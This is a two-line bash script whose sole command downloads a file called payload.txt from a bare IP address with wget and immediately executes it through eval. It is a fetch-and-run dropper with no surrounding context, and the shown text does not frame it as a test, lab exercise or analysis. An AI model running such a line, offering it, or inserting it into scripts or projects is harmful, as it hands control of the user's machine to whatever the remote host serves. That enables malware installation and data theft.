#!/bin/bash
eval "$(wget -qO- http://203.0.113.7/payload.txt)"
